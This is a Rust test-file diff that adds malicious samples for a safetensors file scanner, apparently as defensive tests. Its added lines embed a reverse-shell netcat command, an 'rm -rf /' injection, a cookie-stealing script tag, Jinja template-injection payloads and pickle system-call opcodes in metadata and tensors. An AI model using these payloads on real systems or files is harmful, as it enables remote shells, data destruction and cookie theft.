@@ -80,6 +80,9 @@ fn safetensors() {
     let bad = payload();
     let one = || Safetensors::new().tensor("a", "U8", &[4], &[1, 2, 3, 4]);
     let raw = |header: &str, data: &[u8]| assemble(header, data);
+    let bytes = |dtype: &str, content: &[u8]| {
+        Safetensors::new().tensor("a", dtype, &[content.len() as u64], content).build()
+    };
     let b64 = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, Assembled::long());
     let samples = vec![
         ("tail", one().data(&bad).build()),
@@ -131,6 +134,27 @@ fn safetensors() {
             raw(r#"{"a":{"dtype":"U8","shape":[1],"data_offsets":[0,1],"data_offsets":[0,0]}}"#, &[1]),
         ),
         ("payload in metadata", one().metadata(&[("format", "pt"), ("x", &b64)]).build()),
+        ("a command in metadata", one().metadata(&[("x", "; rm -rf / #")]).build()),
+        ("a long command in metadata", one().metadata(&[("x", "nc -e /bin/sh 192.0.2.1 4444")]).build()),
+        (
+            "a script in metadata",
+            one()
+                .metadata(&[("x", r#"<script>fetch("http://example.org/"+document.cookie)</script>"#)])
+                .build(),
+        ),
+        (
+            "a template in metadata",
+            one()
+                .metadata(&[("chat_template", "{{ cycler.__init__.__globals__.os.popen('id').read() }}")])
+                .build(),
+        ),
+        (
+            "a template by another name in metadata",
+            one().metadata(&[("note", "{% set x = ''.__class__.__mro__[1].__subclasses__() %}")]).build(),
+        ),
+        ("a pickle as a tensor", bytes("U8", &bad)),
+        ("a pickle as a signed tensor, cut off behind its call", bytes("I8", b"cos\nsystem\n(S'id'\ntR")),
+        ("a program as a tensor", bytes("U8", &super::programs::elf())),
         ("text pickle in metadata", one().metadata(&[("x", "cos\nsystem\n(Vecho inert\ntR.")]).build()),
         (
             "size and shape disagree",
